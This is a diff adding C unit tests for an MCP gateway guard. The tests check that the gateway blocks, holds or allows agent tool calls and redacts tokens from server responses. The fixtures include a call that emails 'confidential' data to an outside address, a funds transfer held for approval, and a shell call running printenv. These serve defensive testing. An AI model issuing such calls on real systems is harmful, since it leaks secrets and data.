@@ -19,6 +19,7 @@
 
 #include "guard/holder.h"
 #include "guard/mcp.h"
+#include "guard/mcpgw.h"
 #include "redline/guard.h"
 #include "redline/policy.h"
 
@@ -589,6 +590,160 @@ static void sse_rewrite(void **st)
 	rl_buf_free(&out);
 }
 
+/* ---- the gateway's plans ---- */
+
+static void plan(const rl_guard *g, const char *body, mcpgw_plan *p)
+{
+	mcp_who w = {.g = g, .agent = "ops", .server = "bank"};
+	rl_err e;
+	assert_int_equal(mcpgw_request(&w, body, strlen(body), NULL, p, &e), 0);
+}
+
+static int respond(const rl_guard *g, mcpgw_plan *p, int status, const char *ct, const char *body,
+		   rl_buf *out, int *st_out)
+{
+	mcp_who w = {.g = g, .agent = "ops", .server = "bank"};
+	int replace;
+	rl_err e;
+	assert_int_equal(mcpgw_response(&w, p, status, ct, body, strlen(body), st_out, out, &replace, NULL, &e), 0);
+	return replace;
+}
+
+#define OKCALL "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{\"name\":\"run_shell\",\"arguments\":{\"command\":\"printenv\"}}}"
+#define BADCALL "{\"jsonrpc\":\"2.0\",\"id\":2,\"method\":\"tools/call\",\"params\":{\"name\":\"send_email\",\"arguments\":{\"to\":\"x@elsewhere.example\",\"subject\":\"s\",\"body\":\"confidential\"}}}"
+#define HOLDCALL "{\"jsonrpc\":\"2.0\",\"id\":3,\"method\":\"tools/call\",\"params\":{\"name\":\"transfer_funds\",\"arguments\":{\"to_account\":\"9901\",\"amount\":1}}}"
+#define NOTE "{\"jsonrpc\":\"2.0\",\"method\":\"notifications/cancelled\",\"params\":{}}"
+
+static void gateway_single(void **st)
+{
+	const rl_guard *g = *st;
+	mcpgw_plan p;
+	rl_buf out = RL_BUF_INIT;
+	int status;
+
+	plan(g, "{\"jsonrpc\":", &p);
+	assert_true(p.answer_now);
+	assert_int_equal(p.status, 400);
+	assert_non_null(strstr(p.body.s, "-32700"));
+	mcpgw_plan_free(&p);
+
+	/* initialize and friends: the client's bytes, nothing to judge */
+	plan(g, "{\"jsonrpc\":\"2.0\",\"id\":0,\"method\":\"initialize\",\"params\":{}}", &p);
+	assert_false(p.answer_now);
+	assert_true(p.forward_original);
+	assert_int_equal(p.npending, 0);
+	assert_false(respond(g, &p, 200, "application/json", "{\"jsonrpc\":\"2.0\",\"id\":0,\"result\":{}}", &out, &status));
+	mcpgw_plan_free(&p);
+
+	/* allowed: forwarded as sent; the result judged on the way back */
+	plan(g, OKCALL, &p);
+	assert_true(p.forward_original);
+	assert_int_equal(p.npending, 1);
+	assert_string_equal(p.tool, "run_shell");
+	assert_false(respond(g, &p, 200, "application/json",
+			     "{\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{\"content\":[{\"type\":\"text\",\"text\":\"ok\"}]}}", &out, &status));
+	assert_int_equal(status, 200);
+	mcpgw_plan_free(&p);
+	plan(g, OKCALL, &p);
+	assert_true(respond(g, &p, 200, "text/event-stream",
+			    "event: message\nid: e1\ndata: {\"jsonrpc\":\"2.0\",\"method\":\"notifications/message\",\"params\":{}}\n\n"
+			    "event: message\nid: e2\ndata: {\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{\"content\":[{\"type\":\"text\",\"text\":\"T=" TOKEN "\"}]}}\n\n",
+			    &out, &status));
+	assert_non_null(strstr(out.s, "event: message\nid: e1\ndata: {\"jsonrpc\":\"2.0\",\"method\":\"notifications/message\",\"params\":{}}\n\n"));
+	assert_non_null(strstr(out.s, "id: e2\ndata: {"));
+	assert_non_null(strstr(out.s, "T=[REDACTED]"));
+	assert_null(strstr(out.s, TOKEN));
+	rl_buf_reset(&out);
+	mcpgw_plan_free(&p);
+
+	/* blocked: the guard answers, nothing is forwarded */
+	plan(g, BADCALL, &p);
+	assert_true(p.answer_now);
+	assert_int_equal(p.status, 200);
+	assert_string_equal(p.ctype, "application/json");
+	assert_non_null(strstr(p.body.s, "\"isError\":true"));
+	assert_non_null(strstr(p.body.s, "\"id\":2"));
+	assert_int_equal(p.v.action, RL_GUARD_BLOCK);
+	mcpgw_plan_free(&p);
+
+	/* held: waits; a denial answers with an isError result */
+	plan(g, HOLDCALL, &p);
+	assert_true(p.held);
+	assert_false(p.answer_now);
+	assert_true(p.forward_original);
+	assert_int_equal(mcpgw_denied(&p, &out), 0);
+	assert_non_null(strstr(out.s, "was not approved"));
+	assert_non_null(strstr(out.s, "\"id\":3"));
+	rl_buf_reset(&out);
+	mcpgw_plan_free(&p);
+
+	/* an answer that cannot be read: the call gets an error result */
+	plan(g, OKCALL, &p);
+	assert_true(respond(g, &p, 200, "application/json", "<html>oops", &out, &status));
+	assert_non_null(strstr(out.s, "\"isError\":true"));
+	rl_buf_reset(&out);
+	/* the server's own errors pass as they are */
+	assert_false(respond(g, &p, 404, "application/json", "{}", &out, &status));
+	assert_int_equal(status, 404);
+	mcpgw_plan_free(&p);
+	rl_buf_free(&out);
+}
+
+static void gateway_batch(void **st)
+{
+	const rl_guard *g = *st;
+	mcpgw_plan p;
+	rl_buf out = RL_BUF_INIT;
+	int status;
+	json_t *j;
+
+	plan(g, "[" OKCALL "," BADCALL "," NOTE ",5," HOLDCALL "]", &p);
+	assert_false(p.answer_now);
+	assert_false(p.forward_original);
+	assert_false(p.held); /* a batch cannot wait: the held call is blocked */
+	assert_string_equal(p.body.s, "[" OKCALL "," NOTE "]");
+	assert_int_equal(p.nextra, 3);
+	assert_int_equal(p.npending, 1);
+	assert_true(respond(g, &p, 200, "application/json",
+			    "[{\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{\"content\":[{\"type\":\"text\",\"text\":\"" TOKEN "\"}]}}]",
+			    &out, &status));
+	j = json_loads(out.s, 0, NULL);
+	assert_true(json_is_array(j));
+	assert_int_equal(json_array_size(j), 4); /* the server's one, the guard's three */
+	assert_null(strstr(out.s, TOKEN));
+	json_decref(j);
+	rl_buf_reset(&out);
+	mcpgw_plan_free(&p);
+
+	/* only a notification left for the server: its 202 becomes our answers */
+	plan(g, "[" BADCALL "," NOTE "]", &p);
+	assert_string_equal(p.body.s, "[" NOTE "]");
+	assert_true(respond(g, &p, 202, NULL, "", &out, &status));
+	assert_int_equal(status, 200);
+	j = json_loads(out.s, 0, NULL);
+	assert_int_equal(json_array_size(j), 1);
+	json_decref(j);
+	rl_buf_reset(&out);
+	mcpgw_plan_free(&p);
+
+	/* nothing left at all: answered at once, as a batch */
+	plan(g, "[" BADCALL ",7]", &p);
+	assert_true(p.answer_now);
+	j = json_loads(p.body.s, 0, NULL);
+	assert_int_equal(json_array_size(j), 2);
+	json_decref(j);
+	mcpgw_plan_free(&p);
+
+	/* SSE answer to a batch: the guard's answers as events of their own */
+	plan(g, "[" OKCALL "," BADCALL "]", &p);
+	assert_true(respond(g, &p, 200, "text/event-stream",
+			    "data: {\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{\"content\":[]}}\n\n", &out, &status));
+	assert_non_null(strstr(out.s, "data: {\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{\"content\":[]}}\n\n"
+				      "event: message\ndata: {\"jsonrpc\":\"2.0\",\"id\":2,\"result\":"));
+	mcpgw_plan_free(&p);
+	rl_buf_free(&out);
+}
+
 /* ---- hide_tools errors ---- */
 
 static void hide_tools_errors(void **st)
@@ -751,6 +906,8 @@ int main(void)
 		cmocka_unit_test(answers_matched),
 		cmocka_unit_test(sse_split),
 		cmocka_unit_test(sse_rewrite),
+		cmocka_unit_test(gateway_single),
+		cmocka_unit_test(gateway_batch),
 		cmocka_unit_test(hide_tools_errors),
 		cmocka_unit_test(holder_reload),
 		cmocka_unit_test(holder_under_load),
